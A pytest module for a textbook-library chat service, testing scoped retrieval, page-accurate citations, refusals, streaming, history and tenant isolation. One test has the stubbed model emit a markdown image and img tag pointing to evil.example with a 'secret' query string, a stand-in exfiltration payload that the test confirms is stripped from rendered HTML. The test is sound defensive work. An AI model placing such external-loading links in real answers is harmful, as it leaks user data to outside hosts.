"""Chat over a real, ingested library: scope, citations that hold, not-in-library, streaming, history."""

import json
import re
import uuid

import pypdfium2 as pdfium
import pytest
from sqlalchemy import text

from app.chat import retrieval
from app.chat.answer import MAX_ABSENT_WEIGHT
from app.config import get_settings
from app.db import make_sessionmaker
from app.ingestion.embeddings import get_embedder
from app.ingestion.text import normalise
from app.tenancy import Tenant, bind_tenant
from tests.support.corpus import BOOKS
from tests.support.ingestion import run_worker_until_idle
from tests.support.library import new_student

LOGIC = {"active_semester": "Y1S1", "active_subject": "Logic"}


@pytest.fixture(scope="module")
async def library(client_factory, services):
    """One student with three ingested books in three places, and a second student with another."""
    client = client_factory
    ada = await new_student(client, "Ada")
    await ada.upload_one(BOOKS / "forallx_magnus.pdf", semester="Y1S1", subject="Logic", book="forallx")
    await ada.upload_one(
        BOOKS / "think_python_2e.pdf", semester="Y1S1", subject="Programming", book="thinkpython"
    )
    await ada.upload_one(BOOKS / "nlp_working_programmer.pdf", semester="Y3S2", subject="NLP", book="nlp")
    bob = await new_student(client, "Bob")
    await bob.upload_one(
        BOOKS / "meditations_marcus_aurelius.pdf", semester="S1", subject="Stoics", book="meditations"
    )
    await run_worker_until_idle(services)
    for student in (ada, bob):
        assert {f["status"] for f in (await student.get("/api/files")).json()} == {"ready"}
    return ada, bob


@pytest.fixture(scope="module")
async def client_factory(app):
    import httpx

    transport = httpx.ASGITransport(app=app, client=("203.0.113.9", 4711))
    async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as c:
        yield c


async def ask(student, **body) -> dict:
    response = await student.client.post("/api/chat", json=body, headers=student.headers)
    assert response.status_code == 200, response.text
    return response.json()


def _folded(value: str) -> str:
    return " ".join(value.split())


PDF_FOR = {
    "forallx": "forallx_magnus.pdf",
    "thinkpython": "think_python_2e.pdf",
    "nlp": "nlp_working_programmer.pdf",
}


def assert_quotes_on_their_pages(sources: list[dict]) -> None:
    for source in sources:
        document = pdfium.PdfDocument(str(BOOKS / PDF_FOR[source["book"]]))
        page_text = normalise(document[source["page"] - 1].get_textpage().get_text_range())
        assert source["quote"] and _folded(source["quote"]) in _folded(page_text), source


async def test_extractive_answer_without_a_model_cites_real_pages(library):
    ada, _ = library
    reply = await ask(ada, query="What is a tautology?", **LOGIC)
    assert reply["mode"] == "extractive"
    assert "No language model is configured" in reply["answer"]
    assert reply["sources"] and {s["book"] for s in reply["sources"]} == {"forallx"}
    assert all(f"[{s['n']}]" in reply["answer"] for s in reply["sources"])
    assert "tautolog" in " ".join(s["quote"].lower() for s in reply["sources"])
    assert_quotes_on_their_pages(reply["sources"])
    # The chips the page shows, rendered by the server: one per source, opening its page.
    first = reply["sources"][0]
    assert reply["sources_html"].count('class="chip"') == len(reply["sources"])
    assert f'data-url="/files/{first["document_id"]}/content#page={first["page"]}"' in reply["sources_html"]


async def test_a_term_of_two_books_scoped_to_one_cites_only_that_book(library):
    ada, _ = library
    logic = await ask(ada, query="What is an argument?", active_semester="Y1S1", active_books=["forallx"])
    code = await ask(ada, query="What is an argument?", active_semester="Y1S1", active_books=["thinkpython"])
    assert {s["book"] for s in logic["sources"]} == {"forallx"}
    assert {s["book"] for s in code["sources"]} == {"thinkpython"}
    assert_quotes_on_their_pages(logic["sources"] + code["sources"])


async def test_choosing_books_a_and_b_never_returns_c(library):
    ada, _ = library
    for question in ("What is a function?", "How do you count words?", "What is a variable?"):
        reply = await ask(ada, query=question, active_books=["forallx", "nlp"])
        assert {s["book"] for s in reply["sources"]} <= {"forallx", "nlp"}, question


async def test_b_never_sees_as_passages_and_hears_not_in_your_library(library, app_engine):
    ada, bob = library
    # By keyword: A's books are full of "tautology"; B's full-text search finds none of it.
    async with make_sessionmaker(app_engine)() as session:
        await bind_tenant(session, Tenant(uuid.UUID(bob.id)))
        found = await retrieval.retrieve(
            session,
            Tenant(uuid.UUID(bob.id)),
            question="tautology sentential",
            query_vector=[0.0] * 384,
            model="all-MiniLM-L6-v2-int8",
            scope=retrieval.Scope(),
            k=5,
            methods=("text",),
        )
        assert found == []
    ada_docs = {f["id"] for f in (await ada.get("/api/files")).json()}
    for question in ("What is a tautology in sentential logic?", "tautology truth table SL"):
        reply = await ask(bob, query=question)
        assert not ada_docs & {s["document_id"] for s in reply["sources"]}
        assert reply["mode"] == "not_found", reply
        assert "not in your library" in reply["answer"]


async def test_a_question_the_library_cannot_answer_is_refused(library):
    ada, _ = library
    reply = await ask(ada, query="What is the best recipe for a chocolate cake with buttercream?")
    assert reply["mode"] == "not_found"
    assert reply["sources"] == [] and reply["sources_html"] == ""
    # The refusal keeps its mode: the conversation says so, and its page shows it as a notice.
    stored = (await ada.get(f"/api/conversations/{reply['conversation_id']}")).json()
    assert [m["mode"] for m in stored] == [None, "not_found"]
    page = await ada.get(f"/chat/{reply['conversation_id']}")
    assert page.status_code == 200 and 'class="message assistant notice' in page.text


async def test_a_short_question_below_the_similarity_floor_is_answered_when_a_passage_holds_its_terms(
    library,
):
    """'What is a connective?' matches forallx's passages weakly (best similarity ~0.30, under the
    0.35 floor) but its section on connectives holds the term: it is answered from that page, not
    refused. Bob, whose library never uses the word, is told it is not in his library."""
    ada, bob = library
    reply = await ask(ada, query="What is a connective?", active_books=["forallx"])
    assert reply["mode"] == "extractive", reply["answer"]
    assert 18 in {s["page"] for s in reply["sources"] if s["book"] == "forallx"}  # "2.2 Connectives"
    assert_quotes_on_their_pages(reply["sources"])
    other = await ask(bob, query="What is a connective?")
    assert other["mode"] == "not_found" and other["sources"] == []


async def test_a_question_naming_someone_the_scope_never_mentions_is_refused(library, app_engine):
    """Nobody called Hendricks is in Ada's books, though every other word of the question is (absent
    weight ~0.26, best similarity ~0.48, both short of refusing): refused on the name. The same question
    about Magnus, forallx's author, is answered. Names are looked up in the asker's library only:
    'Haskell' is in Ada's NLP book, never in Bob's."""
    ada, bob = library
    asked = "What did {} write about the history of the logic and the language of everyday English sentences?"
    refused = await ask(ada, query=asked.format("Hendricks"))
    assert refused["mode"] == "not_found" and refused["sources"] == []
    answered = await ask(ada, query=asked.format("Magnus"))
    assert answered["mode"] == "extractive" and answered["sources"]

    question = "Why is Haskell called a lazy language?"
    vector = get_embedder(get_settings()).embed_query(question)
    found = {}
    for student in (ada, bob):
        async with make_sessionmaker(app_engine)() as session:
            await bind_tenant(session, Tenant(uuid.UUID(student.id)))
            passages = await retrieval.retrieve(
                session,
                Tenant(uuid.UUID(student.id)),
                question=question,
                query_vector=vector,
                model="all-MiniLM-L6-v2-int8",
                scope=retrieval.Scope(),
            )
            await session.rollback()
        found[student.id] = {name for p in passages for name in p.absent_names}
    assert found == {ada.id: set(), bob.id: {"haskel"}}


async def test_generated_answer_cites_passages_and_maps_them_to_pages(library, model):
    ada, _ = library
    model.reply = lambda messages: "A tautology is true on every line of its truth table [1]."
    reply = await ask(ada, query="What is a tautology?", **LOGIC)
    assert reply["mode"] == "generated"
    assert reply["answer"] == "A tautology is true on every line of its truth table [1]."
    assert len(reply["sources"]) == 1 and reply["sources"][0]["n"] == 1
    assert '<sup class="cite" data-cite="1">' in reply["answer_html"]
    assert_quotes_on_their_pages(reply["sources"])
    prompt = model.requests[-1]["messages"][-1]["content"]
    assert re.search(r"\[1\] \(forallx, page \d+", prompt) and "Question: What is a tautology?" in prompt


async def test_streaming_sends_tokens_then_sources(library, model):
    ada, _ = library
    model.reply = lambda messages: "Truth tables list every valuation of the sentence letters [1][2]."
    async with ada.client.stream(
        "POST", "/api/chat/stream", json={"query": "What is a truth table?", **LOGIC}, headers=ada.headers
    ) as response:
        assert response.headers["content-type"].startswith("text/event-stream")
        body = "".join([chunk async for chunk in response.aiter_text()])
    events = re.findall(r"event: (\w+)\ndata: (.*)\n\n", body)
    tokens = [json.loads(data)["text"] for name, data in events if name == "token"]
    assert len(tokens) > 3
    assert "".join(tokens) == "Truth tables list every valuation of the sentence letters [1][2]."
    name, data = events[-1]
    done = json.loads(data)
    assert name == "done" and [s["n"] for s in done["sources"]] == [1, 2]


async def test_the_model_saying_not_found_becomes_not_in_your_library(library, model):
    ada, _ = library
    model.reply = lambda messages: "NOT_IN_LIBRARY"
    async with ada.client.stream(
        "POST", "/api/chat/stream", json={"query": "What is a tautology?", **LOGIC}, headers=ada.headers
    ) as response:
        body = "".join([chunk async for chunk in response.aiter_text()])
    assert "NOT_IN_LIBRARY" not in body
    assert "not in your library (in Y1S1 / Logic)" in body


async def test_injected_markdown_loads_nothing_external(library, model):
    ada, _ = library
    model.reply = lambda messages: (
        "See ![x](https://evil.example/?q=secret) and <img src=https://evil.example> [1]"
    )
    reply = await ask(ada, query="What is a tautology?", **LOGIC)
    assert "<img" not in reply["answer_html"] and "evil.example" not in reply["answer_html"].split(">", 1)[0]
    assert not re.search(r'(src|href)="https://evil', reply["answer_html"])


async def test_conversations_keep_history_and_follow_ups_use_it(library, model, app):
    ada, bob = library
    model.reply = lambda messages: "It is true on every row [1]."
    first = await ask(ada, query="What is a tautology?", **LOGIC)
    conversation = first["conversation_id"]
    model.reply = lambda messages: "Yes: a contradiction is false on every row [1]."
    await ask(ada, query="And its opposite?", conversation_id=conversation, **LOGIC)
    sent = model.requests[-1]["messages"]
    assert [m["role"] for m in sent] == ["system", "user", "assistant", "user"]
    assert sent[1]["content"] == "What is a tautology?"

    listed = (await ada.get("/api/conversations")).json()
    assert listed[0] == {"id": conversation, "title": "What is a tautology?"}
    messages = (await ada.get(f"/api/conversations/{conversation}")).json()
    assert [m["role"] for m in messages] == ["user", "assistant", "user", "assistant"]
    assert [m["mode"] for m in messages] == [None, "generated", None, "generated"]
    assert messages[1]["sources"][0]["deleted"] is False

    # B cannot read, continue or delete it.
    assert (await bob.get(f"/api/conversations/{conversation}")).status_code == 404
    hijack = await bob.client.post(
        "/api/chat", json={"query": "more?", "conversation_id": conversation}, headers=bob.headers
    )
    assert hijack.status_code == 404
    assert (await bob.delete(f"/api/conversations/{conversation}")).status_code == 404
    assert conversation not in {c["id"] for c in (await bob.get("/api/conversations")).json()}

    assert (await ada.delete(f"/api/conversations/{conversation}")).status_code == 204
    assert (await ada.get(f"/api/conversations/{conversation}")).status_code == 404


async def test_planner_scans_exactly_for_small_libraries_and_uses_hnsw_for_large(
    library, app_engine, monkeypatch
):
    ada, _ = library
    settings = get_settings()
    vector = get_embedder(settings).embed_query("tautology")
    async with make_sessionmaker(app_engine)() as session:
        await bind_tenant(session, Tenant(uuid.UUID(ada.id)))
        params = {
            "user_id": uuid.UUID(ada.id),
            "model": "all-MiniLM-L6-v2-int8",
            "limit": 30,
            "vector": str(vector),
        }
        scope = retrieval.Scope()
        small = "\n".join(
            (
                await session.execute(
                    text("explain " + retrieval.vector_sql(scope, dict(params), exact=True)), params
                )
            )
            .scalars()
            .all()
        )
        # Exact: every row of the tenant compared, never the HNSW walk. (Whether through the user's
        # index or a sequential scan depends on the tenant's share of the table: run alone, this module's
        # student holds most of it and the planner rightly reads it all.)
        assert "ix_chunks_embedding_hnsw" not in small, small
        assert "user_id" in small, small
        await retrieval.plan_vector_search(session, exact=False)
        large = "\n".join(
            (
                await session.execute(
                    text("explain " + retrieval.vector_sql(scope, dict(params), exact=False)), params
                )
            )
            .scalars()
            .all()
        )
        assert "ix_chunks_embedding_hnsw" in large
        await session.rollback()

        # And the full k comes back for a small tenant among many others' rows.
        passages = await retrieval.retrieve(
            session,
            Tenant(uuid.UUID(ada.id)),
            question="tautology",
            query_vector=vector,
            model="all-MiniLM-L6-v2-int8",
            scope=scope,
            k=5,
        )
        assert len(passages) == 5

        # Full text, for hybrid retrieval: a keyword finds its passages, still only the tenant's.
        by_text = await retrieval.retrieve(
            session,
            Tenant(uuid.UUID(ada.id)),
            question="tautology",
            query_vector=vector,
            model="all-MiniLM-L6-v2-int8",
            scope=scope,
            k=5,
            methods=("text",),
        )
        assert by_text and all("text" in p.found_by and "tautolog" in p.text.lower() for p in by_text)


async def test_neighbour_evidence_reads_the_passages_around_each_candidate_and_only_the_askers(
    library, app_engine
):
    """The vector ranking weighs each candidate's neighbours (the passages before and after it in its
    document): their mean similarity is that of exactly those passages, and B, handed A's passages,
    reads none of A's rows (each candidate falls back to its own similarity)."""
    ada, bob = library
    question = "What is a tautology in sentential logic?"
    vector = get_embedder(get_settings()).embed_query(question)
    async with make_sessionmaker(app_engine)() as session:
        await bind_tenant(session, Tenant(uuid.UUID(ada.id)))
        passages = await retrieval.retrieve(
            session,
            Tenant(uuid.UUID(ada.id)),
            question=question,
            query_vector=vector,
            model="all-MiniLM-L6-v2-int8",
            scope=retrieval.Scope(books=("forallx",)),
        )
        near = await retrieval.neighbour_similarity(session, Tenant(uuid.UUID(ada.id)), passages, str(vector))
        for passage in passages:
            around = (
                await session.scalars(
                    text(
                        "select 1 - (embedding <=> cast(:v as vector)) from chunks"
                        " where document_id = :d and ordinal in (:o - 1, :o + 1)"
                    ),
                    {"v": str(vector), "d": passage.document_id, "o": passage.ordinal},
                )
            ).all()
            assert around, passage.ordinal  # forallx's passages near a tautology are mid-book
            assert near[passage.chunk_id] == pytest.approx(sum(around) / len(around), abs=1e-6)
            assert near[passage.chunk_id] != pytest.approx(passage.similarity, abs=1e-6)
        await session.rollback()
    async with make_sessionmaker(app_engine)() as session:
        await bind_tenant(session, Tenant(uuid.UUID(bob.id)))
        seen_by_bob = await retrieval.neighbour_similarity(
            session, Tenant(uuid.UUID(bob.id)), passages, str(vector)
        )
        await session.rollback()
    assert seen_by_bob == {p.chunk_id: p.similarity for p in passages}


async def test_term_counts_match_the_passages_and_serve_the_refusal_on_large_libraries(
    library, app_engine, monkeypatch
):
    """The per-document term counts written at ingestion equal the passages that hold each term, and a
    library past the exact-scan limit (walked through HNSW) is still refused on terms found nowhere."""
    ada, _ = library
    async with make_sessionmaker(app_engine)() as session:
        await bind_tenant(session, Tenant(uuid.UUID(ada.id)))
        for lexeme in ("tautolog", "python", "sentenc", "token"):
            held = await session.scalar(
                text("select count(*) from chunks where tsv @@ cast(:q as tsquery)"), {"q": lexeme}
            )
            counted = await session.scalar(
                text("select sum(passages) from document_terms where lexeme = :q"), {"q": lexeme}
            )
            assert held and counted == held, lexeme

    question = "What is the best recipe for a chocolate cake with buttercream?"
    monkeypatch.setattr(retrieval, "EXACT_SCAN_LIMIT", 0)
    settings = get_settings()
    async with make_sessionmaker(app_engine)() as session:
        await bind_tenant(session, Tenant(uuid.UUID(ada.id)))
        passages = await retrieval.retrieve(
            session,
            Tenant(uuid.UUID(ada.id)),
            question=question,
            query_vector=get_embedder(settings).embed_query(question),
            model="all-MiniLM-L6-v2-int8",
            scope=retrieval.Scope(),
        )
        await session.rollback()
    assert passages and passages[0].absent_weight >= MAX_ABSENT_WEIGHT  # 'chocolate', 'buttercream' …
    reply = await ask(ada, query=question)
    assert reply["mode"] == "not_found" and reply["sources"] == []


async def _chapter(student, book: str, title: str) -> tuple[str, dict]:
    (document,) = [f for f in (await student.get("/api/files")).json() if f["book"] == book]
    listed = (await student.get(f"/api/files/{document['id']}/chapters")).json()
    assert listed["read"] is True
    (chapter,) = [c for c in listed["chapters"] if c["title"] == title]
    return document["id"], chapter


async def test_a_question_scoped_to_a_chapter_cites_only_its_pages(library):
    ada, _ = library
    document_id, lists = await _chapter(ada, "thinkpython", "Lists")
    assert (lists["first_page"], lists["last_page"]) == (127, 142)
    # Without the chapter the book's best pages for this lie elsewhere (Dictionaries, Tuples).
    anywhere = await ask(
        ada, query="What is a dictionary and how are keys looked up?", active_books=["thinkpython"]
    )
    assert any(not 127 <= s["page"] <= 142 for s in anywhere["sources"])
    scoped = await ask(
        ada,
        query="What is a dictionary and how are keys looked up?",
        active_chapter={"document_id": document_id, "number": lists["number"]},
    )
    assert scoped["sources"], scoped["answer"]
    assert all(127 <= s["page"] <= 142 and s["book"] == "thinkpython" for s in scoped["sources"])
    assert_quotes_on_their_pages(scoped["sources"])
    # Reopened, the conversation has its chapter picked again.
    page = await ada.get(f"/chat/{scoped['conversation_id']}")
    assert f'<option value="{document_id}:{lists["number"]}" selected>' in page.text


async def test_a_chapter_of_another_users_file_or_one_that_does_not_exist_is_404(library):
    ada, bob = library
    document_id, lists = await _chapter(ada, "thinkpython", "Lists")
    for student, number in ((bob, lists["number"]), (ada, 999)):
        response = await student.client.post(
            "/api/chat",
            json={
                "query": "What is a list?",
                "active_chapter": {"document_id": document_id, "number": number},
            },
            headers=student.headers,
        )
        assert response.status_code == 404, response.text
    assert (await bob.get(f"/api/files/{document_id}/chapters")).status_code == 404
